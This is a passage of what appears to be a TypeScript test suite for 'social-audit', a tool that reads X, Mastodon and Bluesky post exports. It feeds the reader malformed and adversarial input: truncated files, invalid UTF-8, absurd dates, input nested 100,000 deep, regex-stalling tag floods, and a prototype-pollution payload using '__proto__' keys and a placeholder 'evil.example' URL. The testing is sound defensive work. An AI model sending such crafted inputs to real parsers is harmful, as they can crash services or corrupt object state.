      return json(write(dir, 'noid.json', JSON.stringify([...threeV1(), { ...t, id_str: null }])));
    },
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 1 }, ...originals(3) } },
  },
  {
    name: 'v1.1: posts of another author mixed in, no account named',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'mixed.json', JSON.stringify([...threeV1(), v1Tweet({ at: 30 * MIN, user: X_PETE }), v1Tweet({ at: 90 * MIN, user: X_PETE }), v1Tweet({ at: 100 * MIN, user: X_OTHER })]))),
    expected: { code: 2, stderr: /mixed\.json holds posts by 3 accounts \(@CascadiaRoads, @peachland_pete, @BCFireUpdates\); name the one to audit, for example: social-audit @CascadiaRoads --input/ },
  },
  {
    name: 'v1.1: posts of another author mixed in, the account named',
    reader: 'x-v1',
    build: (dir) => ['@cascadiaroads', ...json(write(dir, 'mixed.json', JSON.stringify([...threeV1(), v1Tweet({ at: 30 * MIN, user: X_PETE }), v1Tweet({ at: 3 * HOUR, user: X_OTHER })])))],
    // Three of the account's; two others left out. The window ends at the account's newest post.
    expected: { code: 0, report: { account: { handle: X_SELF.handle }, source: { itemsRead: 3, otherAuthors: 2 }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    // JSON.parse makes `__proto__` an own key; a reader that copies keys by assignment would
    // set a prototype instead. The tweet with an object for `entities.hashtags` is skipped.
    name: 'v1.1: __proto__, constructor and toString keys in tweets',
    reader: 'x-v1',
    build: (dir) => {
      const [a, b, c] = threeV1().map((t) => JSON.stringify(t).slice(0, -1)) as [string, string, string];
      return json(write(dir, 'proto.json', `[${a},"__proto__":{"id_str":"666","entities":{"urls":[{"expanded_url":"https://evil.example/"}]}}},${b},"constructor":{"prototype":{"x":1}},"toString":5,"hasOwnProperty":1},${c.replace('"entities":{', '"entities":{"__proto__":{"hashtags":[{"text":"evil"}]},')}}]`));
    },
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 0 }, ...originals(3) } },
  },
  {
    name: 'v1.1: JSON Lines with a Mastodon status and a Bluesky feed item among the tweets',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'mixed.jsonl', [...threeV1(), mastodonStatus({ at: 3 * HOUR }), bskyItem({ at: 4 * HOUR })].map((d) => JSON.stringify(d)).join('\n'))),
    // Read as v1.1 (the first line says so): the two others are not tweets and are skipped.
    expected: { code: 0, report: { source: { format: 'x-v1', itemsRead: 3, itemsSkipped: 2, complete: false }, ...originals(3) } },
  },
  {
    name: 'v1.1: JSON Lines with CRLF line ends and blank lines',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'tweets.jsonl', `\r\n${threeV1().map((t) => JSON.stringify(t)).join('\r\n\r\n')}\r\n\r\n`)),
    expected: { code: 0, report: { source: { itemsRead: 3 }, ...originals(3) } },
  },
  {
    name: 'v1.1: JSON Lines whose last line is cut short (a collector killed mid-write)',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'tweets.jsonl', `${threeV1().map((t) => JSON.stringify(t)).join('\n')}\n${JSON.stringify(v1Tweet({ at: 3 * HOUR })).slice(0, 50)}`)),
    expected: { code: 2, stderr: /tweets\.jsonl: line 4 is not valid JSON \(.*\); a JSON Lines file needs one complete document per line/ },
  },
  {
    name: 'v1.1: bytes that are not UTF-8 inside a tweet text',
    reader: 'x-v1',
    build: (dir) => {
      const text = JSON.stringify([...threeV1(), v1Tweet({ at: 3 * HOUR, text: 'Road @@@ closed' })]);
      const at = Buffer.from(text).indexOf('@@@');
      const bytes = Buffer.from(text);
      bytes[at] = 0xc3; // a lead byte with no continuation
      bytes[at + 1] = 0xff; // never valid in UTF-8
      bytes[at + 2] = 0x80; // a stray continuation byte
      return json(write(dir, 'latin.json', bytes));
    },
    expected: {
      code: 0,
      report: { source: { itemsRead: 4, itemsSkipped: 0 }, ...originals(4) },
      check: ({ stdout }) => expect(stdout).not.toContain('@@@'),
    },
  },
  {
    name: 'v1.1: a byte that is not UTF-8 between JSON tokens',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'bad-byte.json', Buffer.concat([Buffer.from(`[${JSON.stringify(v1Tweet({ at: 0 }))},`), Buffer.from([0xff]), Buffer.from(`${JSON.stringify(v1Tweet({ at: HOUR }))}]`)]))),
    expected: { code: 2, stderr: /bad-byte\.json: is not valid JSON/ },
  },
  {
    name: 'v1.1: a UTF-8 BOM before the array',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'bom.json', `\ufeff${JSON.stringify(threeV1())}`)),
    expected: { code: 0, report: { source: { itemsRead: 3 }, ...originals(3) } },
  },
  {
    name: 'v1.1: byte order marks inside the text and as a whole line of JSON Lines',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'boms.jsonl', `\ufeff${threeV1().map((t) => JSON.stringify(t).replace('Highway', '\ufeffHighway')).join('\n')}\n`)),
    expected: { code: 0, report: { source: { itemsRead: 3 }, ...originals(3) } },
  },
  {
    name: 'v1.1: one tweet inside 100,000 nested arrays',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'deep.json', deep(100_000, JSON.stringify(v1Tweet({ at: 0 }))))),
    expected: { code: 0, report: { source: { itemsRead: 1 }, ...originals(1) } },
  },
  {
    name: 'v1.1: a tweet with an unknown field nested 100,000 deep',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'deep-field.json', JSON.stringify([v1Tweet({ at: 0 }, { extra: 'DEEP' })]).replace('"DEEP"', deep(100_000)))),
    expected: { code: 0, report: { source: { itemsRead: 1 }, ...originals(1) } },
  },
  {
    name: 'v1.1: JSON Lines whose second line is 100,000 nested arrays',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'deep.jsonl', `${JSON.stringify(v1Tweet({ at: 0 }))}\n${deep(100_000)}\n${JSON.stringify(v1Tweet({ at: HOUR }))}\n`)),
    expected: { code: 0, report: { source: { itemsRead: 2 }, ...originals(2) } },
  },
  {
    name: 'v1.1: a search response whose statuses hold null and a number',
    reader: 'x-v1',
    build: (dir) => json(write(dir, 'search.json', JSON.stringify({ statuses: [...threeV1(), null, 42], search_metadata: { count: 5 } }))),
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 2 }, ...originals(3) } },
  },

  // ---- X API v2 ---------------------------------------------------------------------------------------
  {
    name: 'v2: data is null',
    reader: 'x-v2',
    build: (dir) => json(write(dir, 'page.json', JSON.stringify({ data: null, meta: { result_count: 0 } }))),
    expected: { code: 2, stderr: /page\.json: is JSON of a shape social-audit does not read/ },
  },
  {
    name: 'v2: ids as JSON numbers beyond 2^53',
    reader: 'x-v2',
    build: (dir) => {
      const posts = [0, 1].map((h) => v2Post({ at: h * HOUR }));
      const text = JSON.stringify(v2Page([...posts, v2Post({ at: 2 * HOUR })])).replace(/"id":"(\d{19})","text"/, '"id":$1,"text"');
      return json(write(dir, 'numeric.json', text));
    },
    // The first post's id is a number: skipped with the reason; the other two are read.
    expected: {
      code: 0,
      report: { source: { itemsRead: 2, itemsSkipped: 1, complete: false }, ...originals(2) },
      check: ({ report }) => expect(report?.warnings.map((w) => w.message).join('\n')).toMatch(/data\[0\]: its id is a JSON number beyond 2\^53/),
    },
  },
  {
    name: 'v2: created_at 9999-12-31 (the id says T+2h)',
    reader: 'x-v2',
    build: (dir) => json(write(dir, 'future.json', JSON.stringify(v2Page([v2Post({ at: 0 }), v2Post({ at: HOUR }), v2Post({ at: 2 * HOUR }, { created_at: '9999-12-31T23:59:59.000Z' })])))),
    expected: { code: 0, report: { source: { itemsSkipped: 0 }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'v2: created_at +275760-09-13 (an extended-year date)',
    reader: 'x-v2',
    build: (dir) => json(write(dir, 'far.json', JSON.stringify(v2Page([v2Post({ at: 0 }), v2Post({ at: HOUR }), v2Post({ at: 2 * HOUR }, { created_at: '+275760-09-13T00:00:00.000Z' })])))),
    expected: { code: 0, report: { source: { itemsRead: 2, itemsSkipped: 1 }, window: windowEndingAt(T + HOUR), ...originals(2) } },
  },
  {
    name: 'v2: no created_at (the id gives the time)',
    reader: 'x-v2',
    build: (dir) => json(write(dir, 'no-time.json', JSON.stringify(v2Page([0, 1, 2].map((h) => {
      const { created_at: _drop, ...p } = v2Post({ at: h * HOUR });
      return p;
    }))))),
    expected: { code: 0, report: { window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'v2: null fields where the API omits them',
    reader: 'x-v2',
    build: (dir) => json(write(dir, 'nulls.json', JSON.stringify(v2Page([0, 1, 2].map((h) => v2Post({ at: h * HOUR }, { referenced_tweets: null, in_reply_to_user_id: null, entities: null, note_tweet: null, public_metrics: null })))))),
    expected: { code: 0, report: { source: { itemsSkipped: 0 }, ...originals(3) } },
  },
  {
    name: 'v2: a reply of another author on the page, the account named',
    reader: 'x-v2',
    build: (dir) => {
      const own = v2Post({ at: 0 });
      const theirs = v2Post({ at: 10 * MIN, user: X_PETE, replyTo: { id: String(own.id), user: X_SELF } });
      const answer = v2Post({ at: 20 * MIN, replyTo: { id: String(theirs.id), user: X_PETE } });
      return ['@CascadiaRoads', ...json(write(dir, 'page.json', JSON.stringify(v2Page([own, theirs, answer]))))];
    },
    // Pete's reply is another author's: left out. The account's answer 10 min after it.
    expected: { code: 0, report: { source: { otherAuthors: 1 }, counts: { items: 2, original: 1, replyToOther: 1 } } },
  },
  {
    name: 'v2: an array of pages, the second not a page',
    reader: 'x-v2',
    build: (dir) => json(write(dir, 'pages.json', JSON.stringify([v2Page([v2Post({ at: 0 })]), { hello: 'world' }]))),
    expected: { code: 2, stderr: /pages\.json: document 2 is not an X API v2 response page/ },
  },
  {
    name: 'v2: a page with only errors (the account was suspended)',
    reader: 'x-v2',
    build: (dir) => json(write(dir, 'errors.json', JSON.stringify({ errors: [{ title: 'Forbidden', detail: 'User has been suspended: [CascadiaRoads].', type: 'https://api.twitter.com/2/problems/resource-not-found' }] }))),
    expected: { code: 0, report: { counts: { items: 0 }, score: { verdict: 'NO_ACTIVITY' } } },
  },

  // ---- Mastodon outbox ---------------------------------------------------------------------------------
  {
    name: 'outbox.json alone, cut short',
    reader: 'mastodon-outbox',
    build: (dir) => {
      const text = JSON.stringify(outbox([0, 1, 2].map((h) => outboxCreate({ at: h * HOUR }))), null, 2);
      return json(write(dir, 'outbox.json', text.slice(0, text.length / 2)));
    },
    expected: { code: 2, stderr: /outbox\.json: is not valid JSON/ },
  },
  {
    name: 'Mastodon archive zip whose outbox.json is cut short',
    reader: 'mastodon-outbox',
    build: (dir) => {
      const text = JSON.stringify(outbox([0, 1, 2].map((h) => outboxCreate({ at: h * HOUR }))));
      return json(zip(dir, 'archive.zip', [{ name: 'actor.json', data: JSON.stringify(actorJson()) }, { name: 'outbox.json', data: text.slice(0, 300) }]));
    },
    expected: { code: 2, stderr: /archive\.zip\/outbox\.json: is not valid JSON \(is the file truncated\? re-download the archive\)/ },
  },
  {
    name: 'Mastodon archive whose actor.json is not an actor',
    reader: 'mastodon-outbox',
    build: (dir) => {
      write(dir, 'archive/outbox.json', JSON.stringify(outbox([outboxCreate({ at: 0 })])));
      write(dir, 'archive/actor.json', JSON.stringify({ type: 'Person', name: null }));
      return json(join(dir, 'archive'));
    },
    expected: { code: 2, stderr: /archive\/actor\.json: is not an ActivityPub actor \(no "id"\)/ },
  },
  {
    // Published "9999" on the note and the activity: the status id (a snowflake made at T+2h) tells.
    name: 'outbox: published in the year 9999',
    reader: 'mastodon-outbox',
    build: (dir) => {
      write(dir, 'archive/actor.json', JSON.stringify(actorJson()));
      const future = outboxCreate({ at: 2 * HOUR }, { published: '9999-12-31T23:59:59Z' }, { published: '9999-12-31T23:59:59Z' });
      write(dir, 'archive/outbox.json', JSON.stringify(outbox([outboxCreate({ at: 0 }), outboxCreate({ at: HOUR }), future])));
      return json(join(dir, 'archive'));
    },
    expected: { code: 0, report: { account: { handle: 'roadinfo@mastodon.example' }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'outbox: published 1970 on the note, a good time on the activity',
    reader: 'mastodon-outbox',
    build: (dir) => {
      write(dir, 'archive/actor.json', JSON.stringify(actorJson()));
      const epoch = outboxCreate({ at: 2 * HOUR }, { published: '1970-01-01T00:00:00Z' });
      write(dir, 'archive/outbox.json', JSON.stringify(outbox([outboxCreate({ at: 0 }), outboxCreate({ at: HOUR }), epoch])));
      return json(join(dir, 'archive'));
    },
    expected: { code: 0, report: { window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'outbox: orderedItems holding null, a number, a string, an array and an Update',
    reader: 'mastodon-outbox',
    build: (dir) => {
      write(dir, 'archive/actor.json', JSON.stringify(actorJson()));
      const junk = [null, 42, 'Create', [outboxCreate({ at: 3 * HOUR })], { ...outboxCreate({ at: 4 * HOUR }), type: 'Update' }];
      write(dir, 'archive/outbox.json', JSON.stringify(outbox([...[0, 1, 2].map((h) => outboxCreate({ at: h * HOUR })), ...junk])));
      return json(join(dir, 'archive'));
    },
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 5, complete: false }, ...originals(3) } },
  },
  {
    name: 'outbox: a Create by another actor mixed in, a boost of its post',
    reader: 'mastodon-outbox',
    build: (dir) => {
      write(dir, 'archive/actor.json', JSON.stringify(actorJson()));
      const kat = outboxCreate({ at: 30 * MIN, actor: 'https://other.example/users/kat' });
      const boost = outboxAnnounce({ at: 3 * HOUR, object: (kat.object as { id: string }).id });
      write(dir, 'archive/outbox.json', JSON.stringify(outbox([...[0, 1, 2].map((h) => outboxCreate({ at: h * HOUR })), kat, boost])));
      return json(join(dir, 'archive'));
    },
    expected: { code: 0, report: { source: { itemsRead: 4, otherAuthors: 1 }, counts: { items: 4, original: 3, repostToOther: 1 } } },
  },
  {
    name: 'outbox: a note of a million < and a profile field of 100,000 unclosed tags',
    reader: 'mastodon-outbox',
    build: (dir) => {
      write(dir, 'archive/actor.json', JSON.stringify({ ...actorJson(), attachment: [{ type: 'PropertyValue', name: 'Website', value: '<a '.repeat(100_000) }] }));
      write(dir, 'archive/outbox.json', JSON.stringify(outbox([outboxCreate({ at: 0 }), outboxCreate({ at: HOUR }), outboxCreate({ at: 2 * HOUR }, { content: '<'.repeat(1_000_000) })])));
      return json(join(dir, 'archive'));
    },
    expected: { code: 0, report: { account: { website: null }, ...originals(3) } },
  },
  {
    // The skip reason quoted the item's type with String(), which overflowed the stack.
    name: 'outbox: an item whose type is 100,000 nested arrays',
    reader: 'mastodon-outbox',
    build: (dir) => {
      write(dir, 'archive/actor.json', JSON.stringify(actorJson()));
      const items = [...[0, 1, 2].map((h) => outboxCreate({ at: h * HOUR })), { type: 'DEEP', actor: M_ACTOR }];
      write(dir, 'archive/outbox.json', JSON.stringify(outbox(items)).replace('"DEEP"', deep(100_000)));
      return json(join(dir, 'archive'));
    },
    expected: {
      code: 0,
      report: { source: { itemsRead: 3, itemsSkipped: 1 }, ...originals(3) },
      check: ({ report }) => expect(report?.warnings.map((w) => w.message).join('\n')).toMatch(/orderedItems\[3\] \(unknown\)/),
    },
  },
  {
    name: 'outbox: no orderedItems',
    reader: 'mastodon-outbox',
    build: (dir) => json(write(dir, 'outbox.json', JSON.stringify({ type: 'OrderedCollection', totalItems: 3, first: 'outbox?page=true' }))),
    expected: { code: 2, stderr: /outbox\.json: is not a Mastodon outbox \(expected an OrderedCollection with orderedItems\)/ },
  },
  {
    name: 'outbox: null content, to, cc and tag on the note',
    reader: 'mastodon-outbox',
    build: (dir) => {
      write(dir, 'archive/actor.json', JSON.stringify(actorJson()));
      const nulls = [0, 1, 2].map((h) => outboxCreate({ at: h * HOUR }, { content: null, to: null, cc: null, tag: null, inReplyTo: null, url: null }));
      write(dir, 'archive/outbox.json', JSON.stringify(outbox(nulls)));
      return json(join(dir, 'archive'));
    },
    // The note names no audience, so the activity's (public) is used.
    expected: { code: 0, report: { source: { itemsSkipped: 0 }, counts: { excludedNonPublic: 0 }, ...originals(3) } },
  },

  // ---- Mastodon API statuses -------------------------------------------------------------------------
  {
    name: 'statuses: null account on one status',
    reader: 'mastodon-statuses',
    build: (dir) => json(write(dir, 'statuses.json', JSON.stringify([...[2, 1, 0].map((h) => mastodonStatus({ at: h * HOUR })), mastodonStatus({ at: -HOUR }, { account: null })]))),
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 1 }, account: { handle: 'roadinfo' }, ...originals(3) } },
  },
  {
    name: 'statuses: null content and null mentions, tags, card',
    reader: 'mastodon-statuses',
    build: (dir) => json(write(dir, 'statuses.json', JSON.stringify([2, 1, 0].map((h) => mastodonStatus({ at: h * HOUR }, { content: null, mentions: null, tags: null, card: null, quote: null }))))),
    expected: { code: 0, report: { source: { itemsSkipped: 0 }, ...originals(3) } },
  },
  {
    name: 'statuses: created_at in the year 9999 (the snowflake id says T+2h)',
    reader: 'mastodon-statuses',
    build: (dir) => json(write(dir, 'statuses.json', JSON.stringify([mastodonStatus({ at: 2 * HOUR }, { created_at: '9999-12-31T23:59:59.999Z' }), mastodonStatus({ at: HOUR }), mastodonStatus({ at: 0 })]))),
    expected: { code: 0, report: { source: { itemsSkipped: 0 }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'statuses: created_at in 9999 and an id that is no snowflake',
    reader: 'mastodon-statuses',
    build: (dir) => json(write(dir, 'statuses.json', JSON.stringify([mastodonStatus({ at: 2 * HOUR }, { id: '12345', created_at: '9999-12-31T23:59:59.999Z' }), mastodonStatus({ at: HOUR }), mastodonStatus({ at: 0 })]))),
    expected: { code: 0, report: { source: { itemsRead: 2, itemsSkipped: 1 }, window: windowEndingAt(T + HOUR), ...originals(2) } },
  },
  {
    name: 'statuses: a boost of a status dated 1970',
    reader: 'mastodon-statuses',
    build: (dir) => {
      const old = mastodonStatus({ at: -DAY, account: M_OTHER }, { created_at: '1970-01-01T00:00:00.000Z' });
      return json(write(dir, 'statuses.json', JSON.stringify([mastodonStatus({ at: 3 * HOUR }, { reblog: old, content: '' }), ...[2, 1, 0].map((h) => mastodonStatus({ at: h * HOUR }))])));
    },
    expected: { code: 0, report: { counts: { items: 4, original: 3, repostToOther: 1 } } },
  },
  {
    name: 'statuses: two accounts mixed (the first status names the account)',
    reader: 'mastodon-statuses',
    build: (dir) => json(write(dir, 'statuses.json', JSON.stringify([...[2, 1, 0].map((h) => mastodonStatus({ at: h * HOUR })), mastodonStatus({ at: 30 * MIN, account: M_OTHER })]))),
    expected: { code: 0, report: { account: { handle: 'roadinfo' }, source: { itemsRead: 3, otherAuthors: 1 }, ...originals(3) } },
  },
  {
    // `<[^>]*>` scanned to the end of the text from every `<`: 100,000 unclosed anchors took
    // minutes before the tag patterns stopped at the next `<`.
    name: 'statuses: content of 100,000 unclosed <a href=" tags',
    reader: 'mastodon-statuses',
    build: (dir) => json(write(dir, 'statuses.json', JSON.stringify([mastodonStatus({ at: 2 * HOUR }, { content: '<a href="'.repeat(100_000) }), mastodonStatus({ at: HOUR }), mastodonStatus({ at: 0 })]))),
    expected: { code: 0, report: { source: { itemsSkipped: 0 }, ...originals(3) } },
  },
  {
    name: 'statuses: JSON Lines whose second line is not a status',
    reader: 'mastodon-statuses',
    build: (dir) => json(write(dir, 'pages.jsonl', `${JSON.stringify([mastodonStatus({ at: 0 })])}\n"next page"\n`)),
    expected: { code: 2, stderr: /pages\.jsonl: line 2 is not a Mastodon status or an array of statuses/ },
  },

  // ---- Bluesky author feed ---------------------------------------------------------------------------
  {
    // createdAt is set by the client; 9999 cannot be, so the server's indexedAt (T+2h+0.5s) is used.
    name: 'Bluesky: createdAt in the year 9999',
    reader: 'bluesky-feed',
    build: (dir) => json(write(dir, 'feed.json', JSON.stringify({ feed: [bskyItem({ at: 2 * HOUR, createdAt: '9999-12-31T23:59:59.999Z' }), bskyItem({ at: HOUR }), bskyItem({ at: 0 })] }))),
    expected: { code: 0, report: { account: { handle: B_SELF.handle }, window: windowEndingAt(T + 2 * HOUR + 500), ...originals(3) } },
  },
  {
    name: 'Bluesky: createdAt 1970-01-01 (before the network existed)',
    reader: 'bluesky-feed',
    build: (dir) => json(write(dir, 'feed.json', JSON.stringify({ feed: [bskyItem({ at: 2 * HOUR }), bskyItem({ at: HOUR }), bskyItem({ at: 0, createdAt: '1970-01-01T00:00:00.000Z' })] }))),
    // Counted at its indexedAt, T+0.5s: in the window.
    expected: { code: 0, report: { window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'Bluesky: createdAt and indexedAt both in the year 9999',
    reader: 'bluesky-feed',
    build: (dir) => json(write(dir, 'feed.json', JSON.stringify({ feed: [bskyItem({ at: 3 * HOUR, createdAt: '9999-01-01T00:00:00Z', indexedAt: '9999-01-01T00:00:00Z' }), bskyItem({ at: 2 * HOUR }), bskyItem({ at: HOUR }), bskyItem({ at: 0 })] }))),
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 1 }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'Bluesky: a post by another author mixed into the feed',
    reader: 'bluesky-feed',
    build: (dir) => json(write(dir, 'feed.json', JSON.stringify({ feed: [bskyItem({ at: 2 * HOUR }), bskyItem({ at: 90 * MIN, author: B_OTHER }), bskyItem({ at: HOUR }), bskyItem({ at: 0 })] }))),
    expected: { code: 0, report: { account: { handle: B_SELF.handle }, source: { itemsRead: 3, otherAuthors: 1 }, ...originals(3) } },
  },
  {
    name: 'Bluesky: null record, null author, a post without uri',
    reader: 'bluesky-feed',
    build: (dir) => {
      const noUri = bskyItem({ at: 5 * HOUR });
      delete (noUri.post as Record<string, unknown>).uri;
      const items = [bskyItem({ at: 2 * HOUR }), bskyItem({ at: HOUR }), bskyItem({ at: 0 }), bskyItem({ at: 3 * HOUR }, {}, { record: null }), bskyItem({ at: 4 * HOUR }, {}, { author: null }), noUri, null];
      return json(write(dir, 'feed.json', JSON.stringify({ feed: items, cursor: null })));
    },
    // The newest readable post's own createdAt, T+2h (indexedAt is only a fallback).
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 4 }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'Bluesky: a Python SDK dump with a field nested 100,000 deep',
    reader: 'bluesky-feed',
    build: (dir) => {
      const item = {
        py_type: 'app.bsky.feed.defs#feedViewPost',
        post: {
          py_type: 'app.bsky.feed.defs#postView',
          uri: bskyUri(B_SELF, T),
          cid: 'bafy',
          author: { py_type: 'app.bsky.actor.defs#profileViewBasic', did: B_SELF.did, handle: B_SELF.handle, display_name: null },
          record: { py_type: 'app.bsky.feed.post', text: 'Highway 97 is open.', created_at: iso(T), reply: null, extra: 'DEEP' },
          indexed_at: iso(T + 500),
          reply_count: 0,
        },
        reason: null,
      };
      return json(write(dir, 'dump.json', JSON.stringify({ feed: [item], cursor: null }).replace('"DEEP"', deep(100_000))));
    },
    expected: { code: 0, report: { source: { itemsRead: 1, itemsSkipped: 0 }, ...originals(1) } },
  },
  {
    name: 'Bluesky: an embed whose media nests 100,000 levels deep',
    reader: 'bluesky-feed',
    build: (dir) => {
      const nested = `${'{"media":'.repeat(100_000)}{"external":{"uri":"https://roads.example/"}}${'}'.repeat(100_000)}`;
      const item = bskyItem({ at: 0 }, {}, { embed: 'EMBED' });
      return json(write(dir, 'feed.json', JSON.stringify({ feed: [item] }).replace('"EMBED"', nested)));
    },
    expected: { code: 0, report: { source: { itemsRead: 1 }, ...originals(1) } },
  },
  {
    name: 'Bluesky: feed is null',
    reader: 'bluesky-feed',
    build: (dir) => json(write(dir, 'feed.json', JSON.stringify({ feed: null, cursor: 'abc' }))),
    expected: { code: 2, stderr: /feed\.json: is JSON of a shape social-audit does not read/ },
  },
  {
    name: 'Bluesky: JSON Lines of pages, the last one cut short',
    reader: 'bluesky-feed',
    build: (dir) => json(write(dir, 'pages.jsonl', `${JSON.stringify({ feed: [bskyItem({ at: 0 })], cursor: 'c1' })}\n${JSON.stringify({ feed: [bskyItem({ at: -HOUR })] }).slice(0, 100)}\n`)),
    expected: { code: 2, stderr: /pages\.jsonl: line 2 is not valid JSON/ },
  },
  {
    name: 'Bluesky: replies whose parent is another author, one by a handle.invalid author',
    reader: 'bluesky-feed',
    build: (dir) => {
      const parent = bskyUri(B_OTHER, T - HOUR);
      const items = [bskyItem({ at: 2 * HOUR, reply: { parent, root: parent } }), bskyItem({ at: HOUR }), bskyItem({ at: 0 })];
      const invalid = bskyItem({ at: 30 * MIN, author: { did: 'did:plc:broken4444444444444444444', handle: 'handle.invalid' } });
      return ['roadinfo.bsky.social', ...json(write(dir, 'feed.json', JSON.stringify({ feed: [...items, invalid] })))];
    },
    expected: { code: 0, report: { source: { otherAuthors: 1 }, counts: { items: 3, original: 2, replyToOther: 1 } } },
  },

  // ---- social-audit posts file ---------------------------------------------------------------------
  {
    name: 'posts file of format version 2',
    reader: 'normalized',
    build: (dir) => json(write(dir, 'posts.json', JSON.stringify(normalizedFile([normalizedPost({ at: 0 })], { version: 2 })))),
    expected: { code: 2, stderr: /posts\.json: is a social-audit\/posts file of version 2; this social-audit reads version 1\. Upgrade social-audit to read it/ },
  },
  {
    // The version used to be quoted with JSON.stringify, which overflowed the stack.
    name: 'posts file whose version is 100,000 nested arrays',
    reader: 'normalized',
    build: (dir) => json(write(dir, 'posts.json', JSON.stringify(normalizedFile([normalizedPost({ at: 0 })], { version: 'DEEP' })).replace('"DEEP"', deep(100_000)))),
    expected: { code: 2, stderr: /posts\.json: has an invalid header \(version: expected a number, found an array\)/ },
  },
  {
    name: 'posts file whose posts is null',
    reader: 'normalized',
    build: (dir) => json(write(dir, 'posts.json', JSON.stringify(normalizedFile([]) ).replace('"posts":[]', '"posts":null'))),
    expected: { code: 2, stderr: /posts\.json: "posts" must be an array/ },
  },
  {
    name: 'posts file (JSON Lines) with a BOM and CRLF line ends',
    reader: 'normalized',
    build: (dir) => json(write(dir, 'posts.jsonl', `\ufeff${normalizedLines([0, 1, 2].map((h) => normalizedPost({ at: h * HOUR })))}`.replace(/\n/g, '\r\n'))),
    expected: { code: 0, report: { source: { format: 'normalized', itemsRead: 3 }, ...originals(3) } },
  },
  {
    name: 'posts file (JSON Lines) whose last post is cut short',
    reader: 'normalized',
    build: (dir) => json(write(dir, 'posts.jsonl', normalizedLines([0, 1, 2].map((h) => normalizedPost({ at: h * HOUR }))).slice(0, -40))),
    expected: { code: 2, stderr: /posts\.jsonl: line 4 is not valid JSON/ },
  },
  {
    // Nothing readable is no "window without activity": exit 2 with the first reason, not a report.
    name: 'posts file none of whose posts can be read',
    reader: 'normalized',
    build: (dir) => {
      const posts = [0, 1].map((h) => ({ ...normalizedPost({ at: h * HOUR }), id: 1000 + h }));
      return json(write(dir, 'posts.json', JSON.stringify(normalizedFile(posts))));
    },
    expected: { code: 2, stderr: /posts\.json: none of its 2 item\(s\) could be read \(first: post 0: id: .*expected string/ },
  },
  {
    name: 'posts file with missing and null fields',
    reader: 'normalized',
    build: (dir) => {
      const good = [0, 1, 2].map((h) => normalizedPost({ at: h * HOUR }));
      const { createdAt: _drop, ...noTime } = normalizedPost({ at: 3 * HOUR });
      const bad = [noTime, normalizedPost({ at: 4 * HOUR }, { text: null }), normalizedPost({ at: 5 * HOUR }, { author: null }), null];
      return json(write(dir, 'posts.json', JSON.stringify(normalizedFile([...good, ...bad]))));
    },
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 4, complete: false }, ...originals(3) } },
  },
  {
    name: 'posts file with posts of another author mixed in',
    reader: 'normalized',
    build: (dir) => {
      const posts = [...[0, 1, 2].map((h) => normalizedPost({ at: h * HOUR })), normalizedPost({ at: 3 * HOUR, author: X_PETE })];
      return json(write(dir, 'posts.json', JSON.stringify(normalizedFile(posts))));
    },
    expected: { code: 0, report: { account: { handle: X_SELF.handle }, source: { itemsRead: 3, otherAuthors: 1 }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'posts file mixing platforms: Mastodon and Bluesky posts among the X ones',
    reader: 'normalized',
    build: (dir) => {
      const x = [0, 1, 2].map((h) => normalizedPost({ at: h * HOUR }));
      const mastodon = normalizedPost({ at: 3 * HOUR, id: mastodonId(T + 3 * HOUR), author: { id: M_SELF.id, handle: 'roadinfo@mastodon.example' } }, { platform: 'mastodon', url: null });
      const bluesky = normalizedPost({ at: 4 * HOUR, id: bskyUri(B_SELF, T + 4 * HOUR), author: { id: B_SELF.did, handle: B_SELF.handle } }, { platform: 'bluesky', url: null });
      return json(write(dir, 'posts.json', JSON.stringify(normalizedFile([...x, mastodon, bluesky]))));
    },
    // The header names the X account: its three posts are audited, the other two left out.
    expected: { code: 0, report: { account: { platform: 'x', handle: X_SELF.handle }, source: { itemsRead: 3, otherAuthors: 2 }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'posts file that says the fetch stopped early',
    reader: 'normalized',
    build: (dir) => json(write(dir, 'posts.json', JSON.stringify(normalizedFile([0, 1, 2].map((h) => normalizedPost({ at: h * HOUR })), { complete: false, fetchedAt: iso(T + DAY) })))),
    expected: { code: 0, report: { source: { complete: false, fetchedAt: iso(T + DAY) }, ...originals(3) } },
  },
  {
    name: 'posts file: a post dated 9999',
    reader: 'normalized',
    build: (dir) => json(write(dir, 'posts.json', JSON.stringify(normalizedFile([...[0, 1, 2].map((h) => normalizedPost({ at: h * HOUR })), normalizedPost({ at: 3 * HOUR }, { createdAt: '9999-12-31T23:59:59.999Z' })])))),
    expected: { code: 0, report: { source: { itemsRead: 3, itemsSkipped: 1 }, window: windowEndingAt(T + 2 * HOUR), ...originals(3) } },
  },
  {
    name: 'posts file: a 100,000-deep value where the posts should be',
    reader: 'normalized',
